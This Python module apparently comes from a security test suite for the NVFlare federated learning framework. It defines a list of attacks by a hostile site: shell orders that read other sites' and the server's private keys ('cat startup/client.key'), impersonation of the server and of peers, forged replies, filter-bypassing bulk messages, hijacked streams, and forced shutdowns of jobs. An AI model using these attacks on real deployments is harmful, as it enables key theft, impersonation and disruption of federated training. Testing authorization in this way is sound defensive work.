"""Orders and questions that only the server, or another site, may send."""

from __future__ import annotations

from nvflare.apis.fl_constant import ServerCommandNames
from nvflare.apis.shareable import Shareable
from nvflare.fuel.f3.cellnet.defs import CellChannel, CellChannelTopic, MessageHeaderKey, MessageType
from nvflare.fuel.f3.streaming.stream_const import (
    STREAM_ACK_TOPIC,
    STREAM_CHANNEL,
    STREAM_ERROR_TOPIC,
    StreamDataType,
    StreamHeaderKey,
)
from nvflare.fuel.f3.streaming.stream_types import BlobSizeError
from nvflare.private.admin_defs import Message as Order
from nvflare.private.defs import CellMessageHeaderKeys, ClientType, SysCommandTopic, TrainingTopic

from .hostile import SERVER, Hostile, Scene

ADMIN = CellChannel.CLIENT_MAIN


def order(topic: str, body: object = None, **headers: str) -> Order:
    """What the server sends to a site on the channel ``admin``."""
    made = Order(topic, body)
    made.set_headers(headers)
    return made


def servers_proof(hostile: Hostile) -> dict[str, str]:
    """The server's own signature, which it puts into every message to a site."""
    names = (CellMessageHeaderKeys.CLIENT_NAME, CellMessageHeaderKeys.TOKEN, CellMessageHeaderKeys.TOKEN_SIGNATURE)
    for message in hostile.heard:
        if message.get_header(CellMessageHeaderKeys.CLIENT_NAME) == SERVER:
            return {name: message.get_header(name) for name in names}
    return {}


def reads_a_key(hostile: Hostile, scene: Scene) -> None:
    """Another site's private key, asked for by this site, in the server's name, and in the victim's own."""
    for origin in (hostile.name, SERVER, scene.victim, f"{SERVER}.x"):
        for proof in ({}, servers_proof(hostile)):
            body = "cat startup/client.key"
            hostile.say(
                ADMIN, "admin", order(SysCommandTopic.SHELL, body), to=scene.victim, origin=origin, headers=proof
            )


def reads_the_servers_key(hostile: Hostile, scene: Scene) -> None:
    """By the server's own cell, which has no such channel, and its job's."""
    for to in (SERVER, scene.server_job):
        hostile.say(ADMIN, "admin", order(SysCommandTopic.SHELL, "cat startup/server.key"), to=to)


def ends_things(hostile: Hostile, scene: Scene) -> None:
    """Another site's job, task, process and settings."""
    job = {"job_id": scene.job_id}
    for proof in ({}, servers_proof(hostile)):
        for origin in (hostile.name, SERVER):
            for made in (
                order(TrainingTopic.ABORT, **job),
                order(TrainingTopic.ABORT_TASK, **job),
                order(TrainingTopic.DELETE_RUN, job_id="local"),
                order(SysCommandTopic.CONFIGURE_SITE_LOG, "off"),
                order(TrainingTopic.SHUTDOWN),
            ):
                hostile.say(ADMIN, "admin", made, to=scene.victim, origin=origin, headers=proof)
    hostile.say(CellChannel.CLIENT_COMMAND, "abort", Shareable(), to=scene.victim_job)


def hides_in_a_bulk(hostile: Hostile, scene: Scene) -> None:
    """What is in a bulk passes none of NVFlare's filters."""
    inner = {
        "target": scene.victim,
        "channel": ADMIN,
        "topic": "admin",
        "message": {"headers": {}, "payload": order(TrainingTopic.SHUTDOWN)},
    }
    for to in (scene.victim, SERVER, scene.server_job):
        hostile.say(CellChannel.CELLNET, "bulk", [inner], to=to)


def goes_as_another(hostile: Hostile, scene: Scene) -> None:
    """Challenge, register, heartbeat and goodbye in another's name."""
    name = {CellMessageHeaderKeys.CLIENT_NAME: scene.victim}
    for origin in (hostile.name, scene.victim):
        for headers in ({}, name):
            for topic in (CellChannelTopic.Challenge, CellChannelTopic.Register, CellChannelTopic.HEART_BEAT):
                if origin == hostile.name and not headers:
                    continue  # its right
                typed = {CellMessageHeaderKeys.CLIENT_TYPE: ClientType.REGULAR, **headers}
                hostile.say(CellChannel.SERVER_MAIN, topic, Shareable(), origin=origin, headers=typed)
    admin = {CellMessageHeaderKeys.CLIENT_TYPE: ClientType.ADMIN}
    hostile.say(CellChannel.SERVER_MAIN, CellChannelTopic.Register, Shareable(), headers=admin)
    hostile.say(CellChannel.CELLNET, CellChannelTopic.Bye, origin=scene.victim)
    hostile.say(CellChannel.CELLNET, CellChannelTopic.Bye, to=scene.victim)


def answers_for_another(hostile: Hostile, scene: Scene) -> None:
    """An order's id is the same for all sites that get it."""
    ids = {str(m.get_header(MessageHeaderKey.REQ_ID)) for m in hostile.heard if m.get_header(MessageHeaderKey.REQ_ID)}
    for request in ids:
        headers = {MessageHeaderKey.REQ_ID: [request]}
        hostile.say(ADMIN, "admin", order("reply", "ok"), kind=MessageType.REPLY, origin=scene.victim, headers=headers)
        headers[MessageHeaderKey.ORIGINAL_HEADERS] = {MessageHeaderKey.DESTINATION: scene.victim}
        hostile.say(ADMIN, "admin", order("reply", "ok"), kind=MessageType.RETURN, headers=headers)


def asks_for_tokens(hostile: Hostile, scene: Scene) -> None:
    """What the server's process of a job asks its parent: who takes part, with what they prove it; and it ends jobs."""
    headers = {CellMessageHeaderKeys.JOB_ID: scene.job_id}
    for origin in (hostile.name, scene.server_job):
        for topic in (ServerCommandNames.GET_CLIENTS, ServerCommandNames.UPDATE_RUN_STATUS):
            body = {"execution_error": True}
            hostile.say(CellChannel.SERVER_PARENT_LISTENER, topic, body, origin=origin, headers=headers)


def orders_the_servers_job(hostile: Hostile, scene: Scene) -> None:
    """Everything but tasks and updates is for the server's parent to say."""
    topics = ("abort", "byebye", "server_state", ServerCommandNames.HANDLE_DEAD_JOB, ServerCommandNames.APP_COMMAND)
    for origin in (hostile.name, f"{hostile.name}.{scene.job_id}", SERVER):
        for topic in topics:
            hostile.say(CellChannel.SERVER_COMMAND, topic, Shareable(), to=scene.server_job, origin=origin)


def takes_anothers_task(hostile: Hostile, scene: Scene) -> None:
    """And sends another's update."""
    for topic in (ServerCommandNames.GET_TASK, ServerCommandNames.SUBMIT_UPDATE):
        for origin in (scene.victim_job, f"{hostile.name}.another"):
            hostile.say(CellChannel.SERVER_COMMAND, topic, Shareable(), to=scene.server_job, origin=origin)
            hostile.chunk(CellChannel.SERVER_COMMAND, topic, b"x", to=scene.server_job, origin=origin)


def stops_connections(hostile: Hostile, scene: Scene) -> None:
    """NVFlare's commands for looking into connections, and for ending them."""
    for to in (SERVER, scene.server_job, scene.victim, scene.victim_job):
        for topic in ("stop_cell", "stop", "change_root", "conns", "config_vars"):
            hostile.say("_net_manager", topic, {"url": "tcp://localhost:1"}, to=to)


def makes_others_connect(hostile: Hostile, scene: Scene) -> None:
    """A header makes the receiver connect to an address, without TLS."""
    for to in (SERVER, scene.victim):
        headers = {MessageHeaderKey.CONN_URL: "tcp://localhost:1", MessageHeaderKey.FROM_CELL: SERVER}
        hostile.say(CellChannel.SERVER_MAIN, CellChannelTopic.HEART_BEAT, Shareable(), to=to, headers=headers)


def breaks_into_streams(hostile: Hostile, scene: Scene) -> None:
    """Streams are numbered in turn: pieces for another's, and errors and receipts for what others are sent."""
    fatal = {
        StreamHeaderKey.ERROR_MSG: "too large",
        StreamHeaderKey.ERROR_TYPE: BlobSizeError.__name__,
        StreamHeaderKey.DATA_TYPE: StreamDataType.ERROR,
    }
    for number in range(60):
        hostile.chunk(CellChannel.RETURN_ONLY, "*", b"x", number=number, to=scene.server_job, origin=scene.victim_job)
        for topic in (STREAM_ACK_TOPIC, STREAM_ERROR_TOPIC):
            for origin in (f"{hostile.name}.{scene.job_id}", scene.victim_job):
                headers = {StreamHeaderKey.STREAM_ID: number, MessageHeaderKey.REPLY_EXPECTED: False, **fatal}
                hostile.say(STREAM_CHANNEL, topic, to=scene.server_job, origin=origin, headers=headers)


def uses_what_is_for_consoles(hostile: Hostile, scene: Scene) -> None:
    """The coordinator's commands, uploads to the server, and what jobs left."""
    for channel, topic in (
        (CellChannel.HCI, "command"),
        (CellChannel.AUX_COMMUNICATION, "ObjectStreamer.Request"),
        (CellChannel.AUX_COMMUNICATION, "fed.event"),
        ("download_service__", "download_service__download"),
        ("credential_manager", "key_exchange"),
    ):
        hostile.say(channel, topic, Shareable())
        hostile.chunk(channel, topic, b"x")
        hostile.say(channel, topic, Shareable(), to=scene.server_job)


ATTACKS = (
    reads_a_key,
    reads_the_servers_key,
    hides_in_a_bulk,
    goes_as_another,
    answers_for_another,
    asks_for_tokens,
    orders_the_servers_job,
    takes_anothers_task,
    stops_connections,
    makes_others_connect,
    breaks_into_streams,
    uses_what_is_for_consoles,
    ends_things,
)
